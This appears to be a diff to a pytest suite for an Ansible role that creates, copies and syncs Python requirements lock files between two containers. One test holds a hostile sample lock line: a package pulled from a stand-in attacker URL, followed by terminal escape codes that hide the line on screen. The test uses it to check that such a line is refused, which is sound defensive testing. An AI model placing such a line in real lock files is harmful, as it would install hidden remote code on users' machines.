@@ -39,9 +39,8 @@ def machine_lock(machine) -> str:
     return machine.exec(f"cat {HOME}/project/requirements.lock").stdout
 
 
-# Both containers are the inventory's one host, devbox-local (tools/local_machine.py points it
-# at each in turn): each gets its own lock folder on the controller.
-COPY = "devbox-local.requirements.lock"
+# Each container is the inventory's host of its own name (DEVBOX_NAME), with a lock folder of its own on the
+# controller: the copy of each is <its name>.requirements.lock there.
 FIRST, SECOND = tagged("devbox-lock-a"), tagged("devbox-lock-b")
 
 
@@ -77,10 +76,11 @@ def test_the_first_machines_lock_holds_its_packages_and_the_hand_installed_one(m
     assert "six==1.16.0\n" in lock and "python-dateutil==2.9.0.post0\n" in lock
     marked = [line for line in lock.splitlines() if line.endswith("# by hand")]
     assert marked == [f"{BY_HAND}  # by hand"], "only the hand-installed one: JupyterLab's dependencies are not"
-    assert re.search(r"^jupyterlab==\S+$", lock, re.M), "what the playbook installs for Jupyter is locked too"
+    assert re.search(r"^ipykernel==\S+$", lock, re.M), "what the playbook installs for the kernel is locked too"
+    assert not re.search(r"^jupyterlab==", lock, re.M), "JupyterLab has a venv of its own: not the user's lock"
     pins = [line for line in lock.splitlines() if line and not line.startswith("#")]
     assert len(pins) == len(freeze(first).splitlines()), "every distribution is pinned"
-    assert (locks[FIRST] / COPY).read_text() == lock, "the controller's copy is the same"
+    assert (locks[FIRST] / f"{FIRST}.requirements.lock").read_text() == lock, "the controller's copy is the same"
 
 
 def test_the_user_cannot_make_a_hand_install_look_requested(machines, locks):
@@ -125,19 +125,19 @@ def test_taking_the_lock_needs_no_network_and_installs_nothing(machines):
 
 def test_the_second_machine_gets_the_same_set_from_the_lock(machines, locks):
     first, second = machines
-    lock_file = os.path.relpath(locks[FIRST] / COPY, ROOT)  # relative to where ansible-playbook runs
+    lock_file = os.path.relpath(locks[FIRST] / f"{FIRST}.requirements.lock", ROOT)  # relative to where ansible-playbook runs
     rc, output = run(second, locks, {"python_env_lock_file": lock_file})
     assert rc == 0, output[-3000:]
     assert freeze(second) == freeze(first)
     assert machine_lock(second) == machine_lock(first), "the hand-installed line stays marked as such"
-    assert (locks[SECOND] / COPY).read_text() == machine_lock(first)
+    assert (locks[SECOND] / f"{SECOND}.requirements.lock").read_text() == machine_lock(first)
     rc, output = run(second, locks, {"python_env_lock_file": lock_file})
     assert rc == 0 and recap_changed(output) == 0, output[-3000:]
 
 
 def test_sync_removes_what_the_lock_does_not_list_and_says_so(machines, locks):
     first, second = machines
-    lock_file = str(locks[FIRST] / COPY)
+    lock_file = str(locks[FIRST] / f"{FIRST}.requirements.lock")
     assert second.exec(f"{VENV}/bin/pip install -q --disable-pip-version-check {EXTRA}",
                        user="pythonuser").returncode == 0
     rc, output = run(second, locks, {"python_env_lock_file": lock_file})
@@ -145,10 +145,10 @@ def test_sync_removes_what_the_lock_does_not_list_and_says_so(machines, locks):
     assert EXTRA in freeze(second), "without python_env_sync nothing is uninstalled"
     assert f"{EXTRA}  # by hand" in machine_lock(second)
 
-    (locks[SECOND] / COPY).unlink()
+    (locks[SECOND] / f"{SECOND}.requirements.lock").unlink()
     rc, output = run(second, locks, {"python_env_lock_file": lock_file, "python_env_sync": True}, "--check")
     assert rc == 0, output[-3000:]
-    assert not (locks[SECOND] / COPY).exists(), "a dry run writes nothing on the controller either"
+    assert not (locks[SECOND] / f"{SECOND}.requirements.lock").exists(), "a dry run writes nothing on the controller either"
     assert f"python_env_sync would remove what {lock_file} does not list: {EXTRA}" in one_line(output)
     assert EXTRA in freeze(second), "a dry run removes nothing"
 
@@ -156,7 +156,7 @@ def test_sync_removes_what_the_lock_does_not_list_and_says_so(machines, locks):
     assert rc == 0, output[-3000:]
     assert f"python_env_sync removed what {lock_file} does not list: {EXTRA}" in one_line(output)
     assert freeze(second) == freeze(first)
-    assert (locks[SECOND] / COPY).read_text() == machine_lock(first)
+    assert (locks[SECOND] / f"{SECOND}.requirements.lock").read_text() == machine_lock(first)
     rc, output = run(second, locks, {"python_env_lock_file": lock_file, "python_env_sync": True})
     assert rc == 0 and recap_changed(output) == 0, output[-3000:]
 
@@ -164,7 +164,7 @@ def test_sync_removes_what_the_lock_does_not_list_and_says_so(machines, locks):
 def test_a_lock_from_another_python_fails_before_the_venv_changes(machines, locks):
     _, second = machines
     other = locks[SECOND] / "other-python.lock"
-    lock = (locks[FIRST] / COPY).read_text()
+    lock = (locks[FIRST] / f"{FIRST}.requirements.lock").read_text()
     other.write_text(re.sub(r"(?m)^# python: .*$", "# python: 3.6.15", lock).replace("six==1.16.0", "six==1.15.0"))
     before = freeze(second)
     rc, output = run(second, locks, {"python_env_lock_file": str(other)})
@@ -178,7 +178,7 @@ def test_a_hidden_lock_line_is_refused_before_anything_changes(machines, locks):
     """Issue 24, finding 3: a line that erases itself on a terminal (\\x1b[2K) in a shared lock."""
     _, second = machines
     hidden = locks[SECOND] / "hidden.lock"
-    hidden.write_text((locks[FIRST] / COPY).read_text()
+    hidden.write_text((locks[FIRST] / f"{FIRST}.requirements.lock").read_text()
                       + "evil @ https://evil.example/evil-1.0.tar.gz#\x1b[2K\x1b[1A\n")
     before = freeze(second)
     rc, output = run(second, locks, {"python_env_lock_file": str(hidden)})
@@ -203,5 +203,5 @@ def test_a_token_only_index_url_installs_and_is_never_shown(machines, locks):
     lock = machine_lock(second)
     assert "# index: https://********:@pypi.org/simple\n" in lock
     assert "# extra index: https://********@pypi.org/simple\n" in lock
-    for text in (output, lock, (locks[SECOND] / COPY).read_text()):
+    for text in (output, lock, (locks[SECOND] / f"{SECOND}.requirements.lock").read_text()):
         assert "sometoken" not in text and "othertoken" not in text
